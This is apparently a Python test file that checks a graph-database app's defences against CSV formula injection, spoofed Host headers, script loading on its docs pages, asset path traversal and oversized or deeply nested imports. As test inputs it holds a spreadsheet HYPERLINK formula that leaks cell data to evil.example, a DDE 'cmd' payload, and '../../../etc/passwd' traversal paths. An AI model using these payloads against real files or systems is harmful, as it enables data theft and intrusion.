"""Issue 12, items 6 and 8: spreadsheet formulas in CSV exports, the Host header, /docs served by us,
and inputs Neo4j or the parsers cannot take (64-bit integers, over-long names, deep nesting): 422."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest

from graph.export import FORMULA_STARTS
from ingest.formats import read_mapping
from ingest.loader import load

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"clic")', "@SUM(A1:A9)", "=1+1", "+cmd|' /C calc'!A0"]


@pytest.fixture
def formula_names(db):
    entities = [{"name": name, "kind": "Organization"} for name in FORMULAS]
    load(
        db,
        read_mapping(
            {
                "sources": [{"id": "src:formulas", "title": "=2+2", "url": "https://example.org/f"}],
                "entities": entities,
                "ties": [
                    {
                        "source": FORMULAS[0],
                        "target": FORMULAS[1],
                        "type": "PARTNERS_WITH",
                        "sources": ["src:formulas"],
                        "evidence": "-1 mentioned as a partner",
                    }
                ],
            },
            "formulas.yaml",
        ),
    )
    return db


def _tables(http) -> dict[str, list[list[str]]]:
    answer = http.get("/export", params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"))))
            for name in archive.namelist()
        }


def test_no_exported_csv_cell_starts_a_formula(formula_names, http) -> None:
    tables = _tables(http)
    cells = [cell for rows in tables.values() for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    names = {row[0] for row in tables["entities.csv"][1:]}
    assert names == {"'" + name for name in FORMULAS}


def test_the_exported_csv_imports_back_to_the_same_names(formula_names, http) -> None:
    tables = _tables(http)
    formula_names.reset()
    out = io.StringIO()
    csv.writer(out).writerows(tables["entities.csv"])
    answer = http.post(
        "/import",
        headers={"X-API-Key": "test-api-key-0123456789"},
        files={"file": ("entities.csv", out.getvalue().encode("utf-8"))},
    )
    assert answer.status_code == 200, answer.text
    names, _, _ = formula_names.driver.execute_query(
        "MATCH (n:Entity) WHERE NOT n:Source RETURN n.name AS name"
    )
    assert sorted(r["name"] for r in names) == sorted(FORMULAS)


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.nip.io", "attacker.localhost.example:8000"])
def test_a_request_for_another_host_name_is_refused(http, host) -> None:
    answer = http.get("/health", headers={"Host": host})
    assert answer.status_code == 400


@pytest.mark.parametrize("host", ["localhost", "localhost:8000", "127.0.0.1"])
def test_the_loopback_names_are_answered(seeded, http, host) -> None:
    assert http.get("/health", headers={"Host": host}).status_code == 200


@pytest.mark.parametrize("page", ["/docs", "/redoc"])
def test_the_documentation_pages_load_only_our_own_scripts(http, page) -> None:
    answer = http.get(page)
    assert answer.status_code == 200
    assert "script-src 'self';" in answer.headers["content-security-policy"]
    scripts = re.findall(r'<script[^>]*src="([^"]+)"', answer.text)
    styles = re.findall(r'<link[^>]*href="([^"]+)"', answer.text)
    assert scripts and "<script>" not in answer.text  # no inline script to allow
    for url in scripts + styles:
        assert url.startswith("/docs/assets/"), url
        asset = http.get(url)
        assert asset.status_code == 200 and len(asset.content) > 100, url


def test_an_unknown_documentation_asset_is_404(http) -> None:
    for name in ("../../../etc/passwd", "nope.js", "%2e%2e%2fmain.py"):
        assert http.get(f"/docs/assets/{name}").status_code == 404


def _import_answer(http, document: str, name: str = "probe.json"):
    headers = {"X-API-Key": "test-api-key-0123456789"}
    return http.post("/import", files={"file": (name, document.encode("utf-8"))}, headers=headers)


def test_an_integer_neo4j_cannot_store_is_422_naming_the_property(db, http) -> None:
    document = {
        "sources": [{"id": "src:p", "title": "p"}],
        "entities": [{"name": "Big", "kind": "Organization"}, {"name": "Small", "kind": "Organization"}],
        "ties": [
            {"source": "Big", "target": "Small", "type": "PARTNERS_WITH", "sources": ["src:p"],
             "properties": {"amount": 2**63}}
        ],
    }  # fmt: skip
    answer = _import_answer(http, json.dumps(document))
    assert answer.status_code == 422 and "properties" in answer.text and "64 bits" in answer.text
    assert http.get("/health").json()["entities"] == 0


def test_a_name_too_long_to_index_is_422_naming_the_field(db, http) -> None:
    document = {"entities": [{"name": "x" * 10_000, "kind": "Organization"}]}
    answer = _import_answer(http, json.dumps(document))
    assert answer.status_code == 422 and "name" in answer.text and "1000" in answer.text


@pytest.mark.parametrize("name", ["deep.json", "deep.yaml"])
def test_a_document_nested_thousands_deep_is_422(db, http, name) -> None:
    answer = _import_answer(http, "[" * 5000 + "]" * 5000, name)
    assert answer.status_code == 422 and name in answer.text


def test_a_cypher_parameter_beyond_64_bits_is_422(http) -> None:
    answer = http.post("/cypher", json={"query": "RETURN $x AS x", "params": {"x": 2**64}})
    assert answer.status_code == 422 and "x" in answer.json()["detail"][0]["where"]
